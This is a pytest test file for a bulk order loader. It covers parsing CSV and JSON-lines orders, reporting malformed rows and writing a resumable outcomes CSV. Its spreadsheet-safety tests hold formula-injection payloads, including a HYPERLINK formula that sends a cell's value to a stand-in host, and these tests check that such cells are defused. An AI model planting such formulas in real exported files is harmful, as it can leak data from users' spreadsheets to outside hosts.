"""The files of a bulk load: orders that are read one by one, and outcomes that a load goes on from."""

import csv
import errno
import itertools
import os
import re
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest

from devstack.stack import ROOT
from domain.bulk import ORDER_ID_CONFLICT, UNKNOWN, Outcome, digest, unpack
from domain.model import MAX_LINES, CheckoutInput, OrderLine
from sagafence import InvalidInput
from terminal.load.orders_file import Entry, line_count, read_orders
from terminal.load.outcomes import MALFORMED, OutcomeFile, from_cell, to_cell

HEADER = "order_id,customer,sku,quantity\n"


def read(folder: Path, name: str, text: str) -> list[Entry]:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return list(read_orders(path))


def order(order_id: str, customer: str = "alice", *lines: tuple[str, int]) -> CheckoutInput:
    return CheckoutInput(order_id, customer, tuple(OrderLine(*line) for line in lines or (("tea-mug", 1),)))


# Reading orders -----------------------------------------------------------------------------------------


def test_csv_rows_of_one_order_are_one_order(tmp_path: Path) -> None:
    found = read(tmp_path, "o.csv", HEADER + "n-1,alice,tea-mug,2\nn-1,alice,poster,1\nn-2,bob,lamp,1\n")

    assert found == [
        Entry(2, "n-1", order("n-1", "alice", ("tea-mug", 2), ("poster", 1)), lines=2),
        Entry(4, "n-2", order("n-2", "bob", ("lamp", 1))),
    ]


def test_an_order_of_as_many_rows_as_there_may_be_has_all_of_them(tmp_path: Path) -> None:
    lines = [(f"sku-{number}", number) for number in range(1, MAX_LINES + 1)]
    rows = "".join(f"n-1,alice,{sku},{quantity}\n" for sku, quantity in lines)

    [found] = read(tmp_path, "o.csv", HEADER + rows)

    assert found.order == order("n-1", "alice", *lines)


@pytest.mark.parametrize("name", ["o.jsonl", "o.ndjson", "o.NDJSON"])
def test_json_lines_are_orders(tmp_path: Path, name: str) -> None:
    text = '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "tea-mug", "quantity": 2}]}\n\n'

    assert read(tmp_path, name, text) == [Entry(1, "n-1", order("n-1", "alice", ("tea-mug", 2)))]


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        ("n-1,alice,tea-mug\n", "line 2 does not have 4 columns"),
        ("n-1,alice,tea-mug,two\n", "quantity 'two' is not a whole number"),
        ("n-1,alice,tea-mug,-1\n", "quantity '-1' is not a whole number"),
        ("n-1,alice,tea-mug,0\n", "quantity 0 is not between"),
        (f"n-1,alice,tea-mug,{'9' * 5000}\n", "is not between"),
        ("n-1,alice,tea-mug,1\nn-1,bob,poster,1\n", "2 customers"),
        ("a\u200bb,alice,tea-mug,1\n", "its order id has characters that cannot be printed"),
        ("n-1,alice,tea-mug,0000000000010000\n", "line 2: quantity 10000 is not between 1 and 1000"),
        ("n-1,alice,tea-mug,12345678901234\n", "line 2: quantity 12345678901234 is not between 1 and 1000"),
        ("n-1,alice,tea-mug,1\n" * 150, "the order has 150 lines; 100 are allowed"),
    ],
)
def test_a_malformed_csv_order_is_reported_and_the_next_is_read(tmp_path: Path, row: str, problem: str) -> None:
    malformed, good = read(tmp_path, "o.csv", HEADER + row + "n-9,alice,tea-mug,1\n")

    assert malformed.order is None
    assert problem in malformed.problem
    assert malformed.line == 2
    assert good.order == order("n-9", "alice", ("tea-mug", 1))


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        ("{", "not JSON"),
        ("[" * 50_000, "not JSON"),
        ("17", "it is no object of order_id, customer, lines"),
        ('{"order_id": "n-1"}', "it has no customer and no lines"),
        ('{"order_id": "n-1", "customer": "alice", "lines": {"sku": "x", "quantity": 1}}', "its lines are no list"),
        ('{"order_id": "n-1", "customer": "alice", "lines": [null]}', "its line 1 is no object of sku, quantity"),
        ('{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "x"}]}', "its line 1 has no quantity"),
        ('{"order_id": ' + "1" * 5_000 + "}", "a number of 5000 characters"),
        ('{"order_id": "n-1", "customer": "alice", "lines": []}', "no lines"),
        ('{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "x", "quantity": 1.5}]}', "not a whole number"),
        ('{"order_id": "n-1", "customer": "' + "x" * 200_000 + '"}', "more than 200000 characters"),
    ],
)
def test_a_malformed_json_order_is_reported_and_the_next_is_read(tmp_path: Path, line: str, problem: str) -> None:
    good = '{"order_id": "n-9", "customer": "alice", "lines": [{"sku": "tea-mug", "quantity": 1}]}'
    first, second = read(tmp_path, "o.jsonl", f"{line}\n{good}\n")

    assert first.order is None
    assert problem in first.problem
    assert (second.line, second.order) == (2, order("n-9", "alice", ("tea-mug", 1)))


@pytest.mark.parametrize(
    ("name", "content", "problem"),
    [
        ("o.xlsx", b"", "are read from .csv and .jsonl"),
        ("o.csv", b"id,who\n", "the first line must be order_id,customer,sku,quantity"),
        ("o.csv", b"", "the first line must be"),
        ("o.csv", b"\xff\xfe", "the first line must be"),
        ("o.csv", b"\xff\xfe\0\0o\0\0\0", "is in UTF-32; save it as CSV UTF-8"),
        ("o.csv", HEADER.encode("utf-16-le"), "UTF-16 without a byte order mark"),
        ("o.csv", b"PK\x03\x04 and so on", "is a workbook or an archive; save it as CSV UTF-8"),
        ("o.csv", b"order_id,customer,sku\n", "the first line must be .* it has no quantity"),
        ("o.csv", b"order_id,customer,sku,quantity,note\n", "an order has no column 'note'; take it out"),
        ("o.csv", b"order_id,customer,sku,quantity,SKU\n", "an order has no second column 'sku'; take it out"),
        ("o.csv", b"order_id,customer,sku,quantity,caf\xe9\n", "line 1: it is not UTF-8 .byte 0xe9 at character 35."),
        ("o.csv", b"n-1,alice,tea-mug,1\n", "the first line must be"),
        ("o.csv", b'sep="\n"order_id"customer"sku"quantity\n', "the first line must be"),
        ("o.csv", b"sep= \norder_id customer sku quantity\n", "the first line must be"),
    ],
)
def test_a_file_that_is_none_is_refused(tmp_path: Path, name: str, content: bytes, problem: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)

    with pytest.raises(InvalidInput, match=problem):
        list(read_orders(path))


def test_a_file_that_is_not_there_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="No such file"):
        list(read_orders(tmp_path / "o.csv"))
    assert line_count(tmp_path / "o.csv") == 0


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_the_lines_of_a_file_are_counted_however_they_end(tmp_path: Path, end: str) -> None:
    (tmp_path / "o.csv").write_text(HEADER.replace("\n", end) * 3, encoding="utf-8", newline="")

    assert line_count(tmp_path / "o.csv") == 3


def test_what_can_be_read_only_once_is_refused_and_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "o.csv")
    (tmp_path / "folder.csv").mkdir()

    for name in ("o.csv", "folder.csv"):
        with pytest.raises(InvalidInput, match="save what it gives to a file first"):
            next(read_orders(tmp_path / name))


def test_a_file_that_changes_while_it_is_read_is_noticed_before_what_has_changed_is_given(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("terminal.load.text_file._CHUNK", 1_000)
    path = tmp_path / "o.csv"
    rows = "".join(f"n-{number},alice,tea-mug,1\n" for number in range(1_500))
    path.write_text(HEADER + rows, encoding="utf-8")
    before = path.stat()
    entries = read_orders(path)
    first = [next(entries) for _ in range(10)]

    with path.open("r+b") as file:  # the same length, and the same time
        file.seek(-8, os.SEEK_END)
        file.write(b"mug,9\n")
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))

    assert [entry.order for entry in first] == [order(f"n-{number}") for number in range(10)]
    with pytest.raises(InvalidInput, match="was changed while it was read"):
        list(entries)


def test_a_file_that_grows_while_it_is_read_is_noticed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("terminal.load.text_file._CHUNK", 1_000)
    path = tmp_path / "o.csv"
    path.write_text(HEADER + "".join(f"n-{number},alice,tea-mug,1\n" for number in range(1_000)), encoding="utf-8")
    entries = read_orders(path)
    next(entries)

    with path.open("a", encoding="utf-8") as file:
        file.write("n-x,alice,tea-mug,1\n")

    with pytest.raises(InvalidInput, match="was changed while it was read"):
        list(entries)


# What spreadsheets and programs write -------------------------------------------------------------------

SHEET = [
    ["order_id", "customer", "sku", "quantity"],
    ["n-1", "alice", "tea-mug", "2"],
    ["n-1", "alice", "poster", "1"],
    ["n-2", "bob", "lamp", "1"],
]
ORDERS = [order("n-1", "alice", ("tea-mug", 2), ("poster", 1)), order("n-2", "bob", ("lamp", 1))]


def sheet(rows: Sequence[Sequence[str]] = SHEET, separator: str = ",", end: str = "\n") -> str:
    return "".join(separator.join(row) + end for row in rows)


def with_columns(*places: int) -> list[list[str]]:
    return [[row[place] for place in places] for row in SHEET]


def quoted(rows: Sequence[Sequence[str]]) -> list[list[str]]:
    return [[f'"{cell}"' for cell in row] for row in rows]


SHEETS = {
    **{f"separated by {name}": sheet(separator=separator) for name, separator in
       {"comma": ",", "semicolon": ";", "tab": "\t", "bar": "|"}.items()},
    **{f"sep={separator!a}": f"sep={separator}\r\n" + sheet(separator=separator, end="\r\n")
       for separator in (",", ";", "\t", "^", ":")},
    **{f"lines that end in {end!a}": sheet(end=end) for end in ("\n", "\r\n", "\r")},
    "no end of the last line": sheet().rstrip("\n"),
    "line ends of both kinds": sheet().replace("\n", "\r\n", 2),
    "quotes everywhere": sheet(quoted(SHEET)),
    "quotes everywhere and semicolons": sheet(quoted(SHEET), ";", "\r\n"),
    "blanks behind separators": sheet(separator=", "),
    "blanks before separators": sheet(separator=" ,"),
    "blanks behind separators and quotes": sheet(quoted(SHEET), ", "),
    "blanks around the names": sheet([[f" {name}  " for name in SHEET[0]], *SHEET[1:]]),
    "names in capitals": sheet([[name.upper() for name in SHEET[0]], *SHEET[1:]]),
    "names in words": sheet([["Order ID", "Customer", "SKU", "Quantity"], *SHEET[1:]]),
    "names with dashes": sheet([["order-id", "customer", "Sku", "QUANTITY"], *SHEET[1:]]),
    "columns the other way round": sheet(with_columns(3, 2, 1, 0)),
    "columns in another sequence": sheet(with_columns(2, 0, 3, 1), ";"),
    "empty lines": sheet().replace("\n", "\n\n"),
    "rows of separators": sheet([*SHEET, ["", "", "", ""], ["", "", "", ""]]),
    "rows of separators in between": sheet([SHEET[0], [""] * 4, *SHEET[1:3], [" "] * 4, SHEET[3]]),
    "rows of separators before the header": sheet([[""] * 4, *SHEET]),
    "rows of empty quotes": sheet([*SHEET, ['""'] * 4]),
    "columns of nothing": sheet([[*row, "", ""] for row in SHEET]),
    "a column of nothing at the beginning": sheet([["", *row] for row in SHEET], ";"),
    "the customer once": sheet([*SHEET[:2], ["n-1", "", "poster", "1"], SHEET[3]]),
    "cells that are merged": sheet([*SHEET[:2], ["", "", "poster", "1"], SHEET[3]], ";"),
    "the customer last": sheet([SHEET[0], ["n-1", "", "tea-mug", "2"], *SHEET[2:]]),
    "zeros before a quantity": sheet([SHEET[0], ["n-1", "alice", "tea-mug", "00000000000002"], *SHEET[2:]]),
}  # fmt: skip


@pytest.mark.parametrize(
    ("name", "encoding"), [("o.csv", "utf-8"), ("o.CSV", "utf-8-sig"), ("o.tsv", "utf-16"), ("o.Txt", "utf-16-be")]
)
@pytest.mark.parametrize("text", SHEETS.values(), ids=SHEETS)
def test_what_a_spreadsheet_writes_is_read(tmp_path: Path, text: str, encoding: str, name: str) -> None:
    path = tmp_path / name
    path.write_bytes((b"\xfe\xff" if encoding == "utf-16-be" else b"") + text.encode(encoding))

    assert [entry.order for entry in read_orders(path)] == ORDERS


@pytest.mark.parametrize(
    "quantity",
    [
        *("2.0", "2,0", "1.000", "1,000", "1 000", "1'000", "\u00a02", "+2", "1e1", "0x2", "2x", ""),
        *("\u0662", "\uff12", "2\u00b2", "\u2154"),
    ],
)
def test_a_quantity_that_is_no_plain_number_is_reported_with_what_to_write(tmp_path: Path, quantity: str) -> None:
    malformed, good = read(tmp_path, "o.csv", f'{HEADER}n-1,alice,tea-mug,"{quantity}"\nn-9,alice,tea-mug,1\n')

    assert malformed.problem == (f"line 2: quantity {quantity!a} is not a whole number in digits alone, such as 12")
    assert good.order == order("n-9")


def test_rows_in_utf_16_that_are_none_are_reported(tmp_path: Path) -> None:
    path = tmp_path / "o.csv"
    path.write_bytes(
        f"\ufeff{HEADER}n-1,ali".encode("utf-16-le")
        + b"\x3d\xd8"
        + "ce,tea-mug,1\nn-2,bob,lamp,1\n".encode("utf-16-le")
        + b"\n"
    )

    malformed, good, torn = read_orders(path)

    assert malformed.problem == "line 2: it is not UTF-16-LE (byte 0x3d at character 8); save it as CSV UTF-8"
    assert good.order == order("n-2", "bob", ("lamp", 1))
    assert "line 4: it is not UTF-16-LE" in torn.problem


# Rows that cannot be read -------------------------------------------------------------------------------

GOOD = "n-8,alice,tea-mug,1"
BAD_ROWS = {
    "a character of another encoding": b"n-1,caf\xe9,tea-mug,1",
    "a byte that begins nothing": b"n-1,\xff,tea-mug,1",
    "half a character": "n-1,alice,tea-mug,1\u20ac".encode()[:-1],
    "a surrogate as a character": b"n-1,\xed\xa0\xbd,tea-mug,1",
    "an overlong character": b"n-1,\xc0\xaf,tea-mug,1",
    "a NUL": b"n-1,al\0ice,tea-mug,1",
    "a quote that ends too early": b'n-1,alice,"tea"mug,1',
    "a quote that does not end": b'n-1,alice,"tea-mug,1',
    "a quote at the very end": b'n-1,alice,tea-mug,"',
    "a quote with a blank behind it": b'n-1,"alice" ,tea-mug,1',
    "quotes that are not doubled": b'n-1,alice,"a "mug" of tea",1',
    "too many columns": b"n-1,alice,tea-mug,1,5",
    "a decimal comma": b"n-1,alice,tea-mug,2,0",
    "an empty column too many": b"n-1,alice,tea-mug,1,",
    "too few columns": b"n-1,alice,tea-mug",
    "another separator": b"n-1;alice;tea-mug;1",
    "a very long field": b"n-1,alice," + b"x" * 150_000 + b",1",
    "a very long quoted field": b'n-1,alice,"' + b"x" * 150_000 + b'",1',
    "a very long line": b"n-1,alice,tea-mug," + b"1" * 500_000,
    "no customer": b"n-1,,tea-mug,1",
    "no SKU": b"n-1,alice,,1",
    "no order id": b",bob,tea-mug,1",
}


# An order's second row may leave the customer out; and another separator is an id of its own.
IN_AN_ORDER = {"no customer", "another separator"}


@pytest.mark.parametrize("end", [b"\n", b"\r\n", b"\r"])
@pytest.mark.parametrize("row", BAD_ROWS.values(), ids=BAD_ROWS)
def test_a_row_that_cannot_be_read_is_malformed_and_the_others_are_orders(
    tmp_path: Path, row: bytes, end: bytes
) -> None:
    path = tmp_path / "o.csv"
    path.write_bytes(end.join([HEADER.strip().encode(), GOOD.encode(), row, b"n-9,alice,tea-mug,1", b""]))

    before, malformed, after = read_orders(path)

    assert (before.order, after.order) == (order("n-8"), order("n-9"))
    assert (malformed.line, after.line, malformed.order) == (3, 4, None)
    assert "line 3" in malformed.problem


@pytest.mark.parametrize("row", [row for name, row in BAD_ROWS.items() if name not in IN_AN_ORDER])
def test_an_order_one_of_whose_rows_cannot_be_read_is_malformed_as_a_whole(tmp_path: Path, row: bytes) -> None:
    path = tmp_path / "o.csv"
    rows = [HEADER.strip().encode(), b"n-1,alice,lamp,1", row, b"n-1,alice,poster,1", b"n-9,alice,tea-mug,1", b""]
    path.write_bytes(b"\n".join(rows))

    malformed, after = read_orders(path)

    assert (malformed.line, malformed.order_id, malformed.order, malformed.lines) == (2, "n-1", None, 3)
    assert "line 3" in malformed.problem or "customer" in malformed.problem or "SKU" in malformed.problem
    assert after.order == order("n-9")


BELOW = {
    "a character of another encoding": b",,caf\xe9,1",
    "a NUL": b",,po\0ster,1",
    "a stray quote": b',,5" pipe,1',
    "a field of several lines": b',,"pos\nter",1',
    "too few columns": b",,poster",
    "too many columns": b",,poster,1,5",
    "a very long field": b",," + b"x" * 300_000 + b",1",
    "a customer that cannot be read": b",caf\xe9,poster,1",
}


@pytest.mark.parametrize("row", BELOW.values(), ids=BELOW)
def test_a_row_below_merged_cells_that_cannot_be_read_is_one_of_the_order_above(tmp_path: Path, row: bytes) -> None:
    path = tmp_path / "o.csv"
    rows = [HEADER.strip().encode(), b"n-1,alice,tea-mug,2", row, b",,lamp,1", b"n-9,alice,tea-mug,1"]
    path.write_bytes(b"\n".join(rows))

    entries = list(read_orders(path))

    assert [entry.order for entry in entries if entry.order_id == "n-1"] == [None]
    assert [entry.order for entry in entries if entry.order] == [order("n-9")]


def test_an_order_that_may_go_on_behind_a_row_of_nobody_knows_whom_is_malformed(tmp_path: Path) -> None:
    rows = "n-1,alice,tea-mug,2\n\0\n,,lamp,1\nn-9,alice,tea-mug,1\n"

    malformed, good = read(tmp_path, "o.csv", HEADER + rows)

    assert (malformed.order, malformed.lines, good.order) == (None, 3, order("n-9"))
    assert malformed.problem == "line 3: it holds a NUL character"


@pytest.mark.parametrize("row", [f"n-1,{'x' * 300_000},lamp,1", f'n-1,"{"x" * 150_000},lamp,1'])
def test_an_order_whose_last_row_is_longer_than_a_row_can_be_is_malformed(tmp_path: Path, row: str) -> None:
    malformed, good = read(tmp_path, "o.csv", f"{HEADER}n-1,alice,tea-mug,1\n{row}\nn-9,alice,tea-mug,1\n")

    assert (malformed.order_id, malformed.order, malformed.lines, good.order) == ("n-1", None, 2, order("n-9"))


@pytest.mark.parametrize("between", ["", "n-2,bob,lamp,1\n"])
def test_an_id_that_is_written_in_two_forms_is_one_order_which_is_malformed(tmp_path: Path, between: str) -> None:
    rows = f"caf\u00e9,alice,tea-mug,1\n{between}cafe\u0301,alice,lamp,1\nn-9,alice,tea-mug,1\n"

    *entries, good = read(tmp_path, "o.csv", HEADER + rows)

    assert [entry.order for entry in entries if entry.order_id == "caf\u00e9"] == [None] * (2 if between else 1)
    assert "normal form C" in entries[-1].problem
    assert good.order == order("n-9")


def test_a_stray_quote_costs_its_row_however_long_the_rest_of_the_file_is(tmp_path: Path) -> None:
    rows = [f"n-{number},alice,tea-mug,1" for number in range(10_000)]
    rows[3] = 'n-3,alice,"tea-mug,1'
    rows[5_000] = 'n-5000,alice,tea-mug",1'
    rows[7_000] = 'n-7000,alice,"27"" lamp,1'
    rows[9_999] = 'n-9999,"alice","tea-mug","1"'

    found = read(tmp_path, "o.csv", HEADER + "\n".join(rows))

    assert len(found) == 10_000
    assert [entry.line for entry in found if entry.order is None] == [5, 5_002, 7_002]


def test_what_stands_in_a_quoted_field_of_several_lines_is_no_order(tmp_path: Path) -> None:
    """A buyer's name may be of several lines, and each may look like a row."""
    text = f'{HEADER}n-1,"al\nn-2,mallory,lamp,1\nice",tea-mug,1\nn-9,alice,tea-mug,1\nn-2,bob,lamp,1\n'

    *malformed, good, beside = read(tmp_path, "o.csv", text)

    assert [entry.line for entry in malformed] == [2, 3, 4]
    assert [entry.order for entry in malformed] == [None] * 3
    assert "line 3: it is in a quoted field that goes from line 2 to line 4" in malformed[1].problem
    assert good.order == order("n-9")
    assert beside.order is None  # whose rows lie apart, for all that can be told


@pytest.mark.parametrize(
    "rows",
    [
        "a1 b1 a2", "a1 b1 a1", "a1 a1 b1 a1 c1", "a1 b1 c1 a1 b1", "a1 x1 a1 x2 a1", "b1 a1 c1 d1 e1 a2",
        "a1 b1 a1 b1 a1 b1", "a1 , a1 b1 a1", "a1 bad a1 b1 a1", "a1 b1 bada", "bada b1 a1",
    ],
)  # fmt: skip
def test_an_id_whose_rows_lie_apart_is_malformed_wherever_they_are_and_reported_with_both_lines(
    tmp_path: Path, rows: str
) -> None:
    written = {"bad": "\0", "bada": 'a,"alice"x,tea-mug,1', ",": ",,,"}
    text = "".join(written.get(row, f"{row[0]},alice,{row},1") + "\n" for row in rows.split())

    found = read(tmp_path, "o.csv", HEADER + text)

    groups = [entry for entry in found if entry.order_id == "a"]
    begins, again = groups[0].line, groups[1].line
    assert len(groups) >= 2
    assert [entry.order for entry in groups] == [None] * len(groups)
    for entry in groups:
        assert (
            "quotes" in entry.problem
            or "NUL" in entry.problem
            or (f"from line {begins} and again from line " in entry.problem)
        )
    assert f"from line {begins} and again from line {again}" in "".join(entry.problem for entry in groups)
    assert {entry.order_id for entry in found if entry.order} == {"b", "c", "d", "e", "x"} & {
        row[0]
        for row in rows.split()
        if rows.split().count(row) == 1 and sum(r[0] == row[0] for r in rows.split() if r not in written) == 1
    }


@pytest.mark.parametrize(
    ("rows", "problem"),
    [
        ([",,tea-mug,1"], "line 2 has no order id; write it in every row"),
        (["\0", ",,tea-mug,1"], "line 3 has no order id"),
        (["n-1,alice,lamp,1", ",bob,tea-mug,1"], "line 3 has no order id"),
        (["n-1,alice,lamp,1", ",alice,tea-mug,1"], "line 3 has no order id"),
    ],
)
def test_a_row_without_an_id_that_may_be_anybodys_is_malformed(tmp_path: Path, rows: list[str], problem: str) -> None:
    found = read(tmp_path, "o.csv", HEADER + "\n".join(rows))

    assert any(problem in entry.problem for entry in found)
    assert all(entry.order in {None, order("n-1", "alice", ("lamp", 1))} for entry in found)


@pytest.mark.parametrize(
    "line",
    [
        '{"order_id": "n-1", "order_id": "n-2", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1, "quantity": 9}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": NaN}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": Infinity}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1e0}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": true}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": "1"}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": ' + "9" * 10_000 + "}]}",
        '{"order_id": "\\ud800", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
        '{"order_id": "n\\u0000", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
        '{"order_id": 1, "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]}',
        '{"order_id": "n-1", "customer": "alice", "lines": "lamp"}',
        '{"order_id": "n-1", "customer": "alice", "lines": {"sku": "lamp"}}',
        '{"order_id": {"a": {"b": 1}}, "customer": ["alice"], "lines": []}',
        '{"order_id": "n-1", "customer": "alice", "lines": [' * 5_000,
        '{"order_id": "n-1", "customer": "alice", "lines": [{"sku": "lamp", "quantity": 1}]} {}',
        "[]", "null", '"n-1"', "\ufeff{}", "{'order_id': 'n-1'}", "}", "\0",
    ],
)  # fmt: skip
def test_a_json_line_that_is_no_order_is_reported_with_its_line(tmp_path: Path, line: str) -> None:
    good = '{"order_id": "n-9", "customer": "alice", "lines": [{"sku": "tea-mug", "quantity": 1}]}'
    before, malformed, after = read(tmp_path, "o.JSONL", f"{good}\r\n{line}\r\n{good}")

    assert (before.order, malformed.order, after.order) == (order("n-9"), None, order("n-9"))
    assert malformed.problem.startswith("line 2: ")
    assert len(malformed.problem) <= 500


# Writing outcomes ---------------------------------------------------------------------------------------


def settled_in(file: OutcomeFile) -> set[str]:
    return {f"n-{number}" for number in range(10) if file.is_settled(order(f"n-{number}"))}


def test_a_load_goes_on_behind_the_outcomes_that_are_settled(tmp_path: Path) -> None:
    path = tmp_path / "outcomes.csv"
    with OutcomeFile(path) as file:
        for number, status in enumerate(("completed", "rejected", "cancelled", ORDER_ID_CONFLICT, UNKNOWN, "stuck")):
            asked = order(f"n-{number}")
            file.add(number, Outcome(asked.order_id, status, 'a reason, with "quotes"', 100, "EUR", "PX1"), asked)

    with OutcomeFile(path) as again:
        assert settled_in(again) == {"n-0", "n-1", "n-2", "n-3"}

    lines = path.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "line,order_id,status,reason,total_minor,currency,tracking_number,content"
    assert lines[1] == f'0,n-0,completed,"a reason, with ""quotes""",100,EUR,PX1,{order("n-0").fingerprint[:16]}'
    assert len(lines) == 7


@pytest.mark.parametrize("order_id", ["a  b", "caf\u00e9", "=1+1", "'n", 'say "hi"', "a;=b", "\U0001f600", "1,2"])
def test_a_load_finds_an_order_again_whatever_is_in_its_id_and_whoever_saved_the_file(
    tmp_path: Path, order_id: str
) -> None:
    path, asked = tmp_path / "outcomes.csv", order(order_id)
    with OutcomeFile(path) as file:
        file.add(2, Outcome(order_id, "completed"), asked)
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())  # as a spreadsheet saves it

    with OutcomeFile(path) as again:
        assert again.is_settled(asked)
        assert not again.is_settled(order("n-1"))


@pytest.mark.parametrize("number", [errno.ENOLCK, errno.EOPNOTSUPP, errno.EINVAL])
def test_a_place_without_locks_is_reported_with_what_to_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, number: int
) -> None:
    def refuses(_descriptor: int, _operation: int) -> None:
        raise OSError(number, os.strerror(number))

    monkeypatch.setattr("fcntl.flock", refuses)

    with pytest.raises(InvalidInput, match="name a file on a local disk with --outcomes"):
        OutcomeFile(tmp_path / "outcomes.csv")


def test_an_id_that_was_settled_with_other_content_is_asked_for_again(tmp_path: Path) -> None:
    path, first, other = tmp_path / "outcomes.csv", order("n-1"), order("n-1", "bob")
    with OutcomeFile(path) as file:
        file.add(2, Outcome("n-1", "completed"), first)

    with OutcomeFile(path) as again:
        assert (again.is_settled(first), again.is_settled(other)) == (True, False)
        again.add(2, Outcome("n-1", ORDER_ID_CONFLICT, "taken"), other)

    with OutcomeFile(path) as at_last:
        assert (at_last.is_settled(first), at_last.is_settled(other)) == (True, True)
        assert not at_last.is_settled(order("n-1", "carol"))


def test_a_file_of_an_earlier_version_gets_what_it_lacks_and_its_orders_are_asked_for_again(tmp_path: Path) -> None:
    path = tmp_path / "outcomes.csv"
    columns = "line,order_id,status,reason,total_minor,currency,tracking_number"
    path.write_text(f"{columns}\n2,n-1,completed,,100,EUR,PX1\n3,n-2,comp", encoding="utf-8")
    path.chmod(0o640)

    with OutcomeFile(path) as file:
        assert settled_in(file) == set()
        file.add(2, Outcome("n-1", "completed"), order("n-1"))
        with pytest.raises(InvalidInput, match="is in use"):
            OutcomeFile(path)

    content = order("n-1").fingerprint[:16]
    whole = f"{columns},content\n2,n-1,completed,,100,EUR,PX1,\n2,n-1,completed,,,,,{content}\n"
    assert path.read_text(encoding="utf-8") == whole
    assert path.stat().st_mode & 0o777 == 0o640
    assert list(tmp_path.iterdir()) == [path]
    with OutcomeFile(path) as again:
        assert settled_in(again) == {"n-1"}


@pytest.mark.parametrize(
    "content", ["line,order\n", "a letter to somebody", HEADER + "n-1,alice,tea-mug,1\n", "\0" * 5_000]
)
def test_a_file_of_another_kind_is_not_written_to(tmp_path: Path, content: str) -> None:
    path = tmp_path / "orders.csv"
    path.write_text(content, encoding="utf-8")

    with pytest.raises(InvalidInput, match="no outcome file"):
        OutcomeFile(path)

    assert path.read_text(encoding="utf-8") == content


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


RUNS = ("=1+1", "+1", "-1", "@SUM(1)", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201", "\t=1", "\r=1", '"=1', "'=1", " =1")
SPLITS = ("{}", "a;{}", "a,{}", "a|{}", "a\t{}", "a; {}", 'a;"{}', "a;'{}", "x;y;{};{}", "{},{}")


@pytest.mark.parametrize("split", SPLITS)
@pytest.mark.parametrize("text", RUNS)
def test_no_cell_runs_in_a_spreadsheet_and_each_can_be_read_back(text: str, split: str) -> None:
    cell = split.format(text, text)

    shown = to_cell(cell)

    for part in re.split(r"[,;|\t]", shown):
        assert not re.match(r"""[" ]*[=+\-@\uff1d\uff0b\uff0d\uff20\r]""", part)
    assert from_cell(shown) == cell
    assert from_cell(to_cell(shown)) == shown


@pytest.mark.parametrize(
    "text", ["", "'", "''", "'a", "n-1", "a-b", "a;b", "don't", "1001", "#1001", "a'=b", "\u00e4;\u00f6"]
)
def test_a_cell_that_does_not_run_is_written_as_it_is(text: str) -> None:
    assert to_cell(text) == text == from_cell(text)


def test_every_text_of_letters_that_matter_to_a_spreadsheet_is_read_back_as_it_was() -> None:
    for length in range(6):
        for letters in itertools.product("=';a \"", repeat=length):
            text = "".join(letters)
            assert from_cell(to_cell(text)) == text


def test_outcomes_are_safe_in_a_spreadsheet_and_the_load_finds_its_orders_again(tmp_path: Path) -> None:
    path = tmp_path / "outcomes.csv"
    evil = order("n-1")
    object.__setattr__(evil, "order_id", '=HYPERLINK("http://x.example/?"&B2,"a;=b")')
    with OutcomeFile(path) as file:
        file.add(2, Outcome(evil.order_id, "completed", "-1\n=1", 100, "@EUR", "+PX"), evil)
        file.add(3, Outcome("\r=1+1\x1b[2J\n", MALFORMED, "=1\u202e"))

    with OutcomeFile(path) as again:
        assert again.is_settled(evil)

    _, ended, malformed = cells_of(path)
    assert ended[1:7] == [
        '\'=HYPERLINK("http://x.example/?"&B2,"a;\'=b")',
        "completed",
        "'-1 =1",
        "100",
        "'@EUR",
        "'+PX",
    ]
    assert malformed[1:4] == ["'=1+1 [2J", "malformed", "'=1"]
    assert len(path.read_text(encoding="utf-8").splitlines()) == 3


def test_the_lock_of_a_load_that_was_killed_is_gone_with_it(tmp_path: Path) -> None:
    path = tmp_path / "outcomes.csv"
    script = "import sys; from pathlib import Path; from terminal.load.outcomes import OutcomeFile\n"
    script += "file = OutcomeFile(Path(sys.argv[1])); print('locked', flush=True); sys.stdin.read()"
    command = [sys.executable, "-c", script, str(path)]
    with subprocess.Popen(command, cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as other:
        assert other.stdout is not None
        assert other.stdout.readline() == "locked\n"
        with pytest.raises(InvalidInput, match=f"process {other.pid} is loading"):
            OutcomeFile(path)
        other.kill()

    with OutcomeFile(path) as file:
        assert settled_in(file) == set()


WHOLE = (
    "line,order_id,status,reason,total_minor,currency,tracking_number,content\n"
    f"2,n-1,completed,,,,,{order('n-1').fingerprint[:16]}\n"
)


